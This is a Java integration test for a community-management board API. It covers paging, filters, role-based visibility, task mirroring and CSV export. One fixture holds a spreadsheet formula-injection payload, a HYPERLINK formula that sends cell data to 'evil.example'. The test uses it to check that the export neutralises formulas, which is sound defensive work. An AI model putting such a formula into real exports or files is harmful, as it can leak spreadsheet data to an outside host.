package org.learningcommunities.lifecycle.progress;

import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.learningcommunities.lifecycle.LifecycleRestClient;
import org.learningcommunities.lifecycle.LifecycleRestClient.Answer;
import org.learningcommunities.lifecycle.community.EstablishmentSteps;
import org.learningcommunities.lifecycle.identity.Groups;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code GET /api/board} over HTTP with basic authentication: paging, the filters, the
 * overdue filter, what a row carries, and who sees which community.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT)
class BoardApiIT {

	@Autowired
	private TestRestTemplate rest;

	@Autowired
	private JdbcClient jdbc;

	@Autowired
	private IdentityService identity;

	@Autowired
	private RuntimeService runtime;

	@Autowired
	private OpenTaskBackfill backfill;

	private LifecycleRestClient client;

	/** A task name as the models write them, Hebrew first. */
	private static final String PLAN_MEETING = "מילוי דף תכנון המפגש / Fill the meeting planning sheet";

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")";

	private final String run = Long.toString(System.nanoTime(), 36);

	/** This test's communities: a field no other test uses. */
	private final String field = "board-api-" + this.run;

	private final String otherLeader = "leader-b-" + this.run;

	@BeforeEach
	void fiveCommunitiesOfTwoLeaders() {
		this.client = new LifecycleRestClient(this.rest);
		BoardFixture fixture = new BoardFixture(this.jdbc, this.identity);
		fixture.user(this.otherLeader, Groups.COMMUNITY_LEADERS);
		Instant now = Instant.now();
		long third = 0;
		for (int i = 1; i <= 4; i++) {
			long id = fixture.community(code(i), "Community " + i, this.field, "leader", "YEAR_ONE");
			third = (i == 3) ? id : third;
		}
		long fifth = fixture.community(code(5), "Community 5", this.field, this.otherLeader, "ESTABLISHMENT");
		// community 2: one overdue and one current task; community 5 (the other
		// leader's): overdue too
		fixture.openTask("t2a-" + this.run, code(2), "year-one", "choose-forums", "Choose forums", "leader",
				"community-leaders", now.minus(Duration.ofDays(2)), now.minus(Duration.ofDays(20)));
		fixture.openTask("t2b-" + this.run, code(2), "community-meeting", "plan-meeting", PLAN_MEETING, null,
				"community-leaders", now.plus(Duration.ofDays(5)), now.minus(Duration.ofDays(1)));
		fixture.openTask("t3-" + this.run, code(3), "year-one", "record-first-meeting", "Record first meeting",
				"leader", "community-leaders", now.plus(Duration.ofDays(5)), now);
		fixture.openTask("t5-" + this.run, code(5), "establishment", "map-needs", "Map needs", this.otherLeader,
				"community-leaders", now.minus(Duration.ofDays(1)), now);
		fixture.meeting(fifth, 1, LocalDate.now().plusDays(10), "Growth engines", "PLANNED", null, null);
		fixture.meeting(fifth, 2, LocalDate.now().minusDays(10), "Local business", "HELD", 25, 4);
		fixture.pendingWorkPlan(fifth, 1);
		// a topic typed by someone who wants a spreadsheet to send its rows away
		fixture.meeting(third, 1, LocalDate.now().plusDays(7), HYPERLINK, "PLANNED", null, null);
	}

	private String code(int i) {
		return "board-api-" + this.run + "-" + i;
	}

	@Test
	void managerPagesThroughEveryCommunityOfTheField() {
		JsonNode first = board("manager", "field=" + this.field + "&page=0&size=2");
		JsonNode last = board("manager", "field=" + this.field + "&page=2&size=2");

		assertThat(first.path("totalElements").asLong()).isEqualTo(5);
		assertThat(first.path("totalPages").asInt()).isEqualTo(3);
		assertThat(codes(first)).containsExactly(code(1), code(2));
		assertThat(codes(last)).containsExactly(code(5));
		assertThat(last.path("page").asInt()).isEqualTo(2);
		assertThat(last.path("size").asInt()).isEqualTo(2);
	}

	@Test
	void overdueOnlyKeepsCommunitiesWithAnOverdueTask() {
		JsonNode overdue = board("manager", "field=" + this.field + "&overdue=true");

		assertThat(codes(overdue)).containsExactly(code(2), code(5));
		JsonNode second = overdue.path("communities").get(0);
		assertThat(second.path("openTasks").asInt()).isEqualTo(2);
		assertThat(second.path("overdueTasks").asInt()).isEqualTo(1);
		// the newest open task is the current step, named as the engine names it (the API
		// speaks no language of its own)
		assertThat(second.path("currentStep").asText()).isEqualTo(PLAN_MEETING);
	}

	@Test
	void rowCarriesTasksWithTheirOwnersAndLinks() {
		JsonNode row = board("manager", "field=" + this.field + "&stage=YEAR_ONE&size=50").path("communities").get(1);

		assertThat(row.path("code").asText()).isEqualTo(code(2));
		JsonNode unassigned = row.path("tasks").get(0);
		assertThat(unassigned.path("taskKey").asText()).isEqualTo("plan-meeting");
		assertThat(unassigned.has("assignee")).isFalse();
		assertThat(unassigned.path("candidateGroups").get(0).asText()).isEqualTo("community-leaders");
		assertThat(unassigned.path("overdue").asBoolean()).isFalse();
		assertThat(unassigned.path("tasklistUrl").asText())
			.isEqualTo("/camunda/app/tasklist/default/#/?task=t2b-" + this.run);
		assertThat(unassigned.path("cockpitUrl").asText())
			.isEqualTo("/camunda/app/cockpit/default/#/process-instance/instance-t2b-" + this.run);
		assertThat(row.path("tasks").get(1).path("overdue").asBoolean()).isTrue();
		assertThat(row.path("cockpitUrl").asText())
			.isEqualTo("/camunda/app/cockpit/default/#/process-instance/root-" + code(2));
	}

	@Test
	void timelineShowsDoneCurrentAndLateSteps() {
		JsonNode row = board("manager", "field=" + this.field + "&stage=YEAR_ONE").path("communities").get(1);

		JsonNode timeline = row.path("timeline");
		assertThat(timeline.get(0).path("stage").asText()).isEqualTo("ESTABLISHMENT");
		assertThat(timeline.get(0).path("status").asText()).isEqualTo("DONE");
		JsonNode yearOne = timeline.get(1);
		assertThat(yearOne.path("status").asText()).isEqualTo("LATE");
		List<String> steps = new ArrayList<>();
		yearOne.path("steps")
			.forEach((step) -> steps.add(step.path("key").asText() + "=" + step.path("status").asText()));
		assertThat(steps).containsExactly("work-plan=DONE", "recruitment=DONE", "forums=LATE", "first-meeting=UPCOMING",
				"meetings=CURRENT", "year-summary=UPCOMING", "stage-gate=UPCOMING");
		assertThat(timeline.get(2).path("status").asText()).isEqualTo("UPCOMING");
	}

	@Test
	void rowShowsNextMeetingsAndPendingApprovals() {
		JsonNode row = board("manager", "field=" + this.field + "&leader=" + this.otherLeader).path("communities")
			.get(0);

		assertThat(row.path("code").asText()).isEqualTo(code(5));
		assertThat(row.path("nextMeetings")).hasSize(1);
		assertThat(row.path("nextMeetings").get(0).path("topic").asText()).isEqualTo("Growth engines");
		assertThat(row.path("pendingApprovals").get(0).path("year").asInt()).isEqualTo(1);
		assertThat(row.path("pendingApprovals").get(0).path("status").asText()).isEqualTo("AWAITING_APPROVAL");
		assertThat(row.path("pendingApprovals").get(0).path("version").asInt()).isEqualTo(1);
	}

	@Test
	void leaderSeesOnlyTheirOwnCommunities() {
		JsonNode theirs = board(this.otherLeader, "field=" + this.field);
		JsonNode asFilter = board(this.otherLeader, "field=" + this.field + "&leader=leader");

		assertThat(codes(theirs)).containsExactly(code(5));
		assertThat(asFilter.path("totalElements").asLong()).isZero();
	}

	@Test
	void partnerSeesTheCommunitiesTheyRepresent() {
		assertThat(board("foundation", "field=" + this.field).path("totalElements").asLong()).isEqualTo(5);
	}

	@Test
	void engineTasksAreMirroredWithTheirOwnerAndInstances() {
		String code = "board-real-" + this.run;
		new EstablishmentSteps(this.client).start(code);

		JsonNode task = this.client.task("manager", code, "recruit-partners");
		String lifecycle = this.runtime.createProcessInstanceQuery()
			.processInstanceBusinessKey(code)
			.processDefinitionKey("community-lifecycle")
			.singleResult()
			.getId();
		var row = this.jdbc
			.sql("select candidate_groups, process_instance_id, root_instance_id from lc_open_task where task_id = ?")
			.param(task.path("id").asText())
			.query()
			.singleRow();
		assertThat(row.get("candidate_groups")).isEqualTo("project-managers");
		assertThat(row.get("process_instance_id")).isEqualTo(task.path("processInstanceId").asText());
		assertThat(row.get("root_instance_id")).isEqualTo(lifecycle).isNotEqualTo(row.get("process_instance_id"));

		// a row mirrored before V13 gets the same from the engine on start
		this.jdbc.sql("""
				update lc_open_task set candidate_groups = null, process_instance_id = null, root_instance_id = null
				where task_id = ?""").param(task.path("id").asText()).update();
		this.backfill.fill();
		assertThat(this.jdbc
			.sql("select candidate_groups, process_instance_id, root_instance_id from lc_open_task where task_id = ?")
			.param(task.path("id").asText())
			.query()
			.singleRow()).isEqualTo(row);
	}

	@Test
	void boardNeedsALogin() {
		Answer answer = this.client.get(null, "/api/board");

		assertThat(answer.status().value()).isEqualTo(401);
	}

	@Test
	void invalidParametersAreNamed() {
		Answer answer = this.client.get("manager", "/api/board?stage=YEAR_NINE&size=1000");

		assertThat(answer.status().value()).isEqualTo(400);
		assertThat(answer.body().path("detail").asText()).contains("'stage'", "'size'");
	}

	@Test
	void csvExportWritesAFormulaAsTextInEveryCell() throws Exception {
		ResponseEntity<String> answer = this.rest.withBasicAuth("manager", "manager")
			.getForEntity("/api/board.csv?field=" + this.field, String.class);

		assertThat(answer.getStatusCode().value()).isEqualTo(200);
		List<CSVRecord> records = csv(answer.getBody());
		CSVRecord third = records.stream().filter((record) -> record.get(0).equals(code(3))).findFirst().orElseThrow();
		assertThat(third.get(9)).isEqualTo("'" + HYPERLINK);
		assertThat(records).allSatisfy((record) -> assertThat(record.values())
			.noneMatch((cell) -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0));
	}

	@Test
	void csvExportSpeaksTheUsersLanguageAndAParameterOnlyForThatAnswer() throws Exception {
		// the demo manager chose English
		ResponseEntity<String> chosen = this.rest.withBasicAuth("manager", "manager")
			.getForEntity("/api/board.csv?field=" + this.field, String.class);
		ResponseEntity<String> asked = this.rest.withBasicAuth("manager", "manager")
			.getForEntity("/api/board.csv?field=" + this.field + "&lang=he", String.class);

		assertThat(csv(chosen.getBody()).get(0).get(0)).isEqualTo("Code");
		assertThat(csv(chosen.getBody()).get(1).get(3)).as("the leader by name").isEqualTo("Lea Community leader");
		assertThat(csv(asked.getBody()).get(0).get(0)).isEqualTo("קוד");
		assertThat(this.identity.getUserInfo("manager", "lang")).isEqualTo("en");
	}

	private static List<CSVRecord> csv(String body) throws Exception {
		assertThat(body).startsWith("\uFEFF");
		return CSVFormat.RFC4180.parse(new StringReader(body.substring(1))).getRecords();
	}

	private JsonNode board(String user, String query) {
		Answer answer = this.client.get(user, "/api/board?" + query);
		assertThat(answer.status().value()).as("GET /api/board?%s as %s: %s", query, user, answer).isEqualTo(200);
		return answer.body();
	}

	private static List<String> codes(JsonNode page) {
		List<String> codes = new ArrayList<>();
		page.path("communities").forEach((row) -> codes.add(row.path("code").asText()));
		return codes;
	}

}
